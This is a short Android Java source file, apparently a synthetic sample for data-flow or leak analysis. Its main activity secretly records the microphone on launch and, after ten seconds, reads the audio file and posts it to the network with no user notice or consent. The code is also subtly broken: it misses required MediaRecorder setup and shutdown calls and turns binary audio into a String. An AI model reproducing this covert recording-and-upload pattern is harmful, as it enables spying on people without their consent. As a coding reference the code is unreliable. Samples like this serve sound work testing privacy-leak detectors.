package com.example.flows.record_upload;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;
import android.media.*;

/** A recording is made to a file, which is read and posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        MediaRecorder recorder = new MediaRecorder();
        recorder.setAudioSource(1);
        recorder.setOutputFile(getFilesDir() + "/voice.3gp");
        recorder.start();
        new Handler().postDelayed(() -> send(), 10000L);
    }
    void send() {
        try {
            RandomAccessFile file = new RandomAccessFile(getFilesDir() + "/voice.3gp", "r");
            byte[] data = new byte[(int) file.length()];
            file.readFully(data);
            Net.post(new String(data));
        } catch (IOException e) {
            throw new RuntimeException(e);
        }
    }
}
